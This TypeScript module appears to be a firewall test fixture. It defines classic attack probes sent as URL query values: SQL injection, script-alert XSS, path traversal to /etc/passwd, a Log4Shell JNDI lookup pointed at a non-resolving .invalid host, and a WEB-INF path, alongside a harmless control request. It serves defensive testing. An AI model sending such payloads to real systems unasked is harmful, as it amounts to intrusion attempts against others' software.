/** Where the browser's part of an attack would reach; reserved, it never resolves. @see https://www.rfc-editor.org/rfc/rfc2606 */
const nowhere = "probe.invalid";

/**
 * What a firewall must refuse, by name: each is known to every scanner, asks for nothing that exists and changes nothing
 * where it is let through. All of them travel in the URL, so that one harmless GET carries each.
 */
export const attacks = {
  /** To the database: asks for a row of nothing. */
  "sql-injection": query("1' OR '1'='1' UNION SELECT NULL,NULL-- "),
  /** To another visitor's browser; the answer is shown to nobody. */
  "cross-site-scripting": query("<script>alert(1)</script>"),
  /** To a file outside of what is served. */
  "path-traversal": query("../../../../../../etc/passwd"),
  /** To a logger that looks names up, of a host that there is not. */
  "log4j-lookup": query(`\${jndi:ldap://${nowhere}/a}`),
  /** To the settings of an application server that nobody runs here. */
  "exploitable-path": "/WEB-INF/web.xml",
} as const;

export type Attack = keyof typeof attacks;

export function isAttack(name: string): name is Attack {
  return Object.hasOwn(attacks, name);
}

/** As it goes over the wire: a client may send an apostrophe either way. */
function query(value: string): string {
  return `/?probe=${encodeURIComponent(value).replaceAll("'", "%27")}`;
}

/** The same request without an attack: refused as well, a refusal would prove nothing. */
export const harmless = query("harmless");
